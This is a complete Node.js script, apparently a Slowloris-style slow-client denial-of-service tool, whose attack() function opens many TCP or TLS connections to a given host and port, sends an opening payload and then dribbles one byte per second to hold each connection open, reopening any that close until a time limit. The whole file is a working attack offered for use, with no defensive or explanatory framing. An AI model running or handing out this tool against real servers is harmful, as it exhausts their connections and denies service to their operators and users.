// Run on the host on the internet: node slowClients.cjs HOST PORT COUNT SECONDS FIRST. Opens COUNT connections, sends FIRST on
// each and then a byte every second. A connection that is closed is opened again. With PORT 443 it speaks TLS.
const net = require("node:net");
const { clearInterval, setInterval, setTimeout } = require("node:timers");
const tls = require("node:tls");

const [host, port, count, seconds, first] = process.argv.slice(2);
const end = Date.now() + Number(seconds) * 1000;

function attack() {
  if (Date.now() > end) return;
  const open = () => socket.write(first.replaceAll("\\r\\n", "\r\n"));
  const socket =
    port === "443"
      ? tls.connect({ host, port: 443, servername: host }, open)
      : net.connect({ host, port: Number(port) }, open);
  const timer = setInterval(() => socket.write("x"), 1000);
  socket.on("error", () => undefined).on("data", () => undefined);
  socket.on("close", () => {
    clearInterval(timer);
    setTimeout(attack, 50);
  });
}
for (let i = 0; i < Number(count); i++) attack();
setTimeout(() => process.exit(), Number(seconds) * 1000);
